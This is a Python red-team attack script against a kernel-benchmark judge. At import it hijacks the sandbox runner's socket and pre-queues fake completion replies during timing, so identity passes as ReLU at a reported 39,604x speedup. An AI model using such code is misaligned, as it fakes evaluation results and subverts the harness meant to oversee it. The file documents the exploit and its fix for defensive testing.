"""Attack: answer timed calls before they are made (19_ReLU, CPU).

At import (inside the sandbox, before any call) the candidate forks a relay process that takes
over the runner's channel: it keeps the real socket (fd 3, os.dup) and puts one end of a fresh
SOCK_SEQPACKET pair on fd 3 with dup2, so kbv-sandbox's own runner now talks to the relay, and
the relay alone talks to the judge (fds passed on with SCM_RIGHTS).
- Correctness calls (the first 8): relayed untouched; the runner computes a true ReLU.
- From then on (timing), it keeps `called` and `completed` queued for the next
  4 calls (seq is just a counter) with the output described as
  {"where": "input", "input": 0}: a view of the judge's own input slot, i.e. identity.
  The judge's CPU clock stops when `called` arrives (timing_phase.cpp, t1 after receive()),
  and it is already waiting in the socket: the candidate sample is ~ a send()+recv() pair,
  shorter than the hop through the twin, so net = max(ms - hop, 1e-6) floors at 1e-6 ms.
  Checked rounds compare the judge's own input slot with relu(input): timing inputs come from
  get_inputs() (torch.rand, >= 0), so identity == ReLU there and the checks pass.
The forward() never runs at all in the timing phase (wrong kernel: identity).
Verdict kbv gave: CORRECT, 39,604x (strict), 40,641x (standard); `kbv run` stored 39,424x
(the honest ReLU: 0.43-0.51x). Without the relay, identity alone (identity_in_timing.py) gives
0.59x at this size: the pre-queued replies are what takes the call out of the sample. WORKED.

Found by the red team of the judge/sandbox split (2026-12-01). Fixed: answers must carry the call's random token (unknown before the call is made), and the
judge refuses a message sent before it asked. kbv must conclude: not correct under strict.
"""
import json
import os
import select
import sys
import time

import torch
import torch.nn as nn

sys.path.insert(0, os.path.dirname(__file__))
from _attack_common import recv, send, take_over_channel  # noqa: E402

HONEST_CALLS = 8  # strict: 7 distributions + 1 determinism repeat (reinit skipped); standard: 5


AHEAD = 4


def prequeue(judge, seq, view):
    send(judge, json.dumps({"type": "called", "seq": seq, "status": "ok", "outputs": [view]}).encode())
    send(judge, json.dumps({"type": "completed", "seq": seq, "error": ""}).encode())


def relay(judge, runner):
    calls = 0
    view = None  # the output descriptor: the input slot's first tensor
    prequeued = None
    while True:
        r, _, _ = select.select([judge, runner], [], [])
        if judge in r:
            data, fds = recv(judge)
            if not data:
                os._exit(0)
            msg = json.loads(data)
            if msg.get("type") == "bind":
                v = dict(msg["block"]["views"][0])
                v.update({"where": "input", "input": 0})
                view = v
            if msg.get("type") == "call":
                calls += 1
                if prequeued is not None and msg["seq"] <= prequeued:
                    # already answered; keep AHEAD answers queued in the judge's socket
                    while prequeued < msg["seq"] + AHEAD:
                        prequeue(judge, prequeued + 1, view)
                        prequeued += 1
                    for fd in fds:
                        os.close(fd)
                    time.sleep(0.001)  # stay off the CPU while the judge times the next samples
                    continue
            send(runner, data, fds)
            for fd in fds:
                os.close(fd)
        if runner in r:
            data, fds = recv(runner)
            if not data:
                os._exit(0)
            send(judge, data, fds)
            msg = json.loads(data)
            if msg.get("type") == "completed" and calls >= HONEST_CALLS and view is not None and prequeued is None:
                prequeued = msg["seq"]
                while prequeued < msg["seq"] + AHEAD:
                    prequeue(judge, prequeued + 1, view)
                    prequeued += 1


take_over_channel(relay)


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
